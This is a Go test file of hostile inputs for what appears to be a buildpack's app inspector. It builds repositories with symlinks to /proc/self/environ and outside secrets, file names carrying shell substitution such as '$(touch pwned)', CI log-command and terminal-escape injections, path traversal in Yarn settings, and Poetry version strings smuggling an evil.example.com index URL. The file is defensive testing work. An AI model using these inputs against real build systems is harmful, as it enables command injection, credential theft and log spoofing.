package hostile

import (
	"errors"
	"os"
	"path/filepath"
	"syscall"
)

// outside are links and names that lead out of the app.
func outside() []Case {
	unreadable := Want{Problem: "app/unreadable"}
	packageJSON := `{"scripts": {"build": "` + Secret + `"}, "devDependencies": {"vite": "1"}}`
	return []Case{
		{Name: "outside procfile", Make: instead("Procfile", linkOut("//r.example.com/:_authToken="+Secret+"\n")),
			Want: unreadable},
		{Name: "outside python-version", Make: instead(".python-version", linkOut(Secret+"\n")), Want: unreadable},
		{Name: "outside package-json", Make: instead("package.json", linkOut("{\n"+Secret+"\n")), Want: unreadable},
		{Name: "outside package-json-valid", Make: instead("package.json", linkOut(packageJSON)), Want: unreadable},
		{Name: "outside relative-link", Make: func(app, out string) error {
			rel, err := filepath.Rel(app, filepath.Join(out, "secret"))
			return errors.Join(err, write(app, django),
				os.WriteFile(filepath.Join(out, "secret"), []byte(Secret), 0o644),
				os.Symlink(rel, filepath.Join(app, "Procfile")))
		}, Want: unreadable},
		{Name: "outside folder", Make: func(app, out string) error {
			return errors.Join(write(app, django), write(out, map[string]string{"front/package.json": packageJSON}),
				os.Symlink(filepath.Join(out, "front"), filepath.Join(app, "frontend")))
		}},
		{Name: "outside chain-of-links", Make: func(app, out string) error {
			return errors.Join(write(app, django), os.WriteFile(filepath.Join(out, "secret"), []byte(Secret), 0o644),
				os.Symlink("b", filepath.Join(app, "Procfile")), os.Symlink("c/secret", filepath.Join(app, "b")),
				os.Symlink(out, filepath.Join(app, "c")))
		}, Want: unreadable},
		{Name: "outside requirements-include", Make: func(app, out string) error {
			return errors.Join(write(app, map[string]string{"requirements.txt": "django\n-r ../" + filepath.Base(out) +
				"/secret\n"}), os.WriteFile(filepath.Join(out, "secret"), []byte("--index-url https://u:"+Secret+
				"@r.example.com/\n"), 0o644))
		}},
		{Name: "outside inside-link-is-fine", Make: func(app, _ string) error {
			return errors.Join(write(app, map[string]string{"requirements/base.txt": "django\n", "manage.py": ""}),
				os.Symlink("requirements/base.txt", filepath.Join(app, "requirements.txt")))
		}, Want: Want{Fine: true}},
	}
}

// unfit are files that never end, are no files, or lead back to the app.
func unfit() []Case {
	unreadable := Want{Problem: "app/unreadable"}
	return []Case{
		{Name: "endless pagemap", Make: instead("package.json", linkTo("/proc/self/pagemap")), Want: unreadable},
		{Name: "endless hook", Make: instead("bin/post_compile", linkTo("/proc/self/pagemap"))},
		{Name: "endless project-toml", Make: instead("project.toml", linkTo("/dev/zero")),
			Want: Want{Problem: "app/unreadable|app/project-toml"}},
		{Name: "environ", Make: instead("Procfile", linkTo("/proc/self/environ")),
			Env: map[string]string{"HOSTILE": "x: " + Secret}, Want: unreadable},
		{Name: "fifo-behind-exclude", Make: func(app, out string) error {
			return errors.Join(with("project.toml",
				"[_]\nschema-version = \"0.2\"\n[io.buildpacks]\nexclude = [\".env\"]\n")(app, out),
				syscall.Mkfifo(filepath.Join(app, "package.json"), 0o644),
				syscall.Mkfifo(filepath.Join(app, "yarn.lock"), 0o644))
		}},
		{Name: "loop-of-folders", Make: func(app, out string) error {
			return errors.Join(write(app, django),
				write(app, map[string]string{"package.json": `{"workspaces": ["**"]}`}),
				os.Symlink(".", filepath.Join(app, "x")), os.Symlink("..", filepath.Join(app, "y")),
				os.Symlink("x/y/x", filepath.Join(app, "z")))
		}},
		// A pyproject.toml that is a folder, beside a lock: said once.
		{Name: "unreadable-once", Make: func(app, _ string) error {
			return errors.Join(write(app, map[string]string{"uv.lock": "version = 1\nrequires-python = \">=3.12\"\n",
				"manage.py": ""}), os.Mkdir(filepath.Join(app, "pyproject.toml"), 0o755))
		}, Want: Want{Problem: "app/unreadable", Once: true}},
		// A file that only requirements-dev.txt includes is not installed.
		{Name: "unreadable-not-needed", Make: func(app, _ string) error {
			return errors.Join(write(app,
				map[string]string{"requirements.txt": "django\n", "requirements-dev.txt": "-r dev\n",
					"manage.py": ""}), os.Mkdir(filepath.Join(app, "dev"), 0o755))
		}, Want: Want{Fine: true}},
	}
}

// names returns cases of names that are printed, or pasted into a shell.
func names() []Case {
	front := map[string]string{"package.json": `{"scripts": {"build": "x"}, "devDependencies": {"vite": "1"}}`}
	in := func(dir string) func(app, out string) error {
		return func(app, _ string) error {
			return errors.Join(write(app, django), write(filepath.Join(app, dir), front))
		}
	}
	broken := "{\n\x1b]0;title\x07\x1b[2J\u202e\n"
	return []Case{
		{Name: "name newline", Make: in("x\n::error::pwned")},
		{Name: "name azure", Make: in("x\n##vso[task.setvariable variable=x]y")},
		{Name: "name escape", Make: in("a\x1b[31m\x1b]0;title\x07")},
		{Name: "name bidi", Make: in("\u202egnp.exe")},
		{Name: "name c1", Make: in("a\u009b31mx")},
		{Name: "name separator", Make: in("a\u2028::error::x")},
		{Name: "name not-utf8", Make: in("a\xff\xfe\x80")},
		{Name: "name tab-and-blank", Make: in(" a\tb ")},
		{Name: "name dash", Make: in("--workspaces")},
		{Name: "name command", Make: in("$(touch pwned)"), Want: Want{Text: "'$(touch pwned)'", Never: "cd $("}},
		{Name: "name backquote", Make: in("`touch pwned`"), Want: Want{Text: "'`touch pwned`'", Never: "cd `"}},
		{Name: "name quote", Make: in("it's; touch pwned"), Want: Want{Never: "cd it's;"}},
		{Name: "name requirements", Make: Files(map[string]string{"requirements\n::error::x.txt": "django\n",
			"requirements-b.txt": "django\n"})},
		{Name: "name script", Make: Files(map[string]string{"requirements.txt": "django\n",
			"package.json": `{"scripts": {"build:\n::add-mask::x": "x", "build\u001b[2J": "x"}, ` +
				`"dependencies": {"a": "1"}}`}),
			Env: map[string]string{"BP_NODE_RUN_SCRIPTS": "none"}, Want: Want{Problem: "node/script-missing"}},
		{Name: "value nvmrc",
			Make: Files(map[string]string{"requirements.txt": "django\n", ".nvmrc": "22\x1b[31m\x07\r\n",
				"package.json": front["package.json"]})},
		{Name: "value procfile", Make: with("Procfile", "web: x\nno type\x1b[2J\r::error::x\n\u202e::warning::y\n"),
			Want: Want{Problem: "procfile/line"}},
		{Name: "value package-json", Make: with("package.json", broken),
			Want: Want{Problem: "node/package-json-invalid"}},
		{Name: "value app-json", Make: with("app.json",
			`{"buildpacks": [{"url": "x\u001b[2J\n::error::y"}], "env": {"A\n::error::z": {"required": true}}}`)},
		{Name: "value package-manager", Make: Files(map[string]string{"requirements.txt": "django\n",
			"package.json": `{"packageManager": "yarn@https://user:` + Secret + `@h.example.com/y.tgz?token=` + Secret +
				`", "scripts": {"build": "x"}, "dependencies": {"a": "1"}}`})},
		{Name: "value two-at-signs", Make: Files(map[string]string{"requirements.txt": "django\n",
			"package.json": `{"packageManager": "yarn@https://u:p@` + Secret +
				`@h.example.com/y.tgz", "scripts": {"build": "x"}, "dependencies": {"a": "1"}}`})},
		{Name: "value index-url", Make: with("requirements.txt", "--index-url https://user:"+Secret+
			"@r.example.com/simple\n--extra-index-url https://r.example.com/simple?token="+Secret+"\n--foo "+Secret+
			"\ndjango\n")},
		{Name: "value secret-in-broken-lock", Make: Files(map[string]string{"requirements.txt": "django\n",
			"package.json": front["package.json"],
			"package-lock.json": "{\"resolved\": \"https://r.example.com/a.tgz?token=" +
				Secret + "\" x\n"}), Want: Want{Problem: "node/lock-invalid"}},
		{Name: "private files",
			Make: Files(map[string]string{"requirements.txt": "django\n", ".netrc": "", ".pypirc": "",
				".npmrc": "//r.example.com/:_authToken=" + Secret + "\n", "auth.toml": "", ".docker/config.json": "{}",
				"kubeconfig": "", "a.pfx": "", "credentials.json": "{}"}), Want: Want{Text: ".netrc"}},
	}
}

// paths are settings of the app that would become paths, patterns or options of what the build removes, writes or runs.
func paths() (all []Case) {
	// its Yarn is committed, so that nothing has to be fetched
	berry := func(linker, settings string) func(app, out string) error {
		return Files(map[string]string{
			"requirements.txt": "django\n",
			"package.json":     `{"dependencies": {"x": "1"}, "scripts": {"build": "true"}}`,
			"yarn.lock":        "__metadata:\n  version: 8\n",
			".yarnrc.yml":      "nodeLinker: " + linker + "\n" + settings + "\n", ".yarn/y.cjs": "", "keep/me": "x",
		})
	}
	const yarn = "yarnPath: .yarn/y.cjs\n"
	for name, folder := range map[string]string{ // with node_modules Yarn does not use it: it must not matter
		"star": `"*"`, "stars": `"**"`, "class": `"[k]eep"`, "question": `"kee?"`, "tilde": "~/x", "keep": "keep",
		"parent": "../victim", "absolute": "/etc", "dot": `"."`, "slash": `"/"`, "dot-dot-inside": `"a/.."`,
		"dotted": `"./a/../../victim"`, "nul": `"a\0b"`,
	} {
		all = append(all,
			Case{Name: "yarn-cache-folder " + name, Make: berry("node-modules", yarn+"cacheFolder: "+folder)})
	}
	// with PnP the image would need it
	for name, folder := range map[string]string{"parent": "../victim", "absolute": "/etc", "dot": `"."`,
		"dot-dot-inside": `"a/.."`, "nul": `"a\0b"`} {
		all = append(all, Case{Name: "yarn-pnp-cache-folder " + name, Make: berry("pnp", yarn+"cacheFolder: "+folder),
			Want: Want{Problem: "node/settings-invalid"}})
	}
	invalid := Want{Problem: "node/settings-invalid|node/manager-missing"}
	all = append(all,
		Case{Name: "yarn-path parent", Make: berry("node-modules", "yarnPath: ../../bin/sh"), Want: invalid},
		Case{Name: "yarn-path absolute", Make: berry("node-modules", "yarnPath: /bin/sh"), Want: invalid})
	lock := `{"lockfileVersion": 3, "packages": {"": {"name": "x"}, "node_modules/v": {"resolved": "../../victim", ` +
		`"link": true}, "../../victim": {"version": "1"}, "/etc": {"version": "1"}, "*": {"version": "1"}}}`
	all = append(all, Case{Name: "npm-lock outside", Make: Files(map[string]string{"requirements.txt": "django\n",
		"package.json":      `{"dependencies": {"v": "file:../../victim"}, "scripts": {"build": "true"}}`,
		"package-lock.json": lock})})
	for name, version := range map[string]string{"line": `\n--index-url https://evil.example.com/\npoetry==2.0`,
		"option": `--index-url=https://evil.example.com/`, "address": ` @ https://evil.example.com/poetry.tgz`,
		"marker": `>=2; os_name == 'x'`} {
		text := "[tool.poetry]\nname = \"x\"\nversion = \"1\"\nrequires-poetry = \"" + version +
			"\"\n[tool.poetry.dependencies]\npython = \"^3.12\"\n"
		all = append(all, Case{Name: "requires-poetry " + name, Make: Files(map[string]string{"manage.py": "",
			"pyproject.toml": text,
			"poetry.lock": "[metadata]\nlock-version = \"2.0\"\npython-versions = \"^3.12\"\n" +
				"content-hash = \"x\"\n"}),
			Want: Want{Problem: "python/tool-version"}})
	}
	return all
}
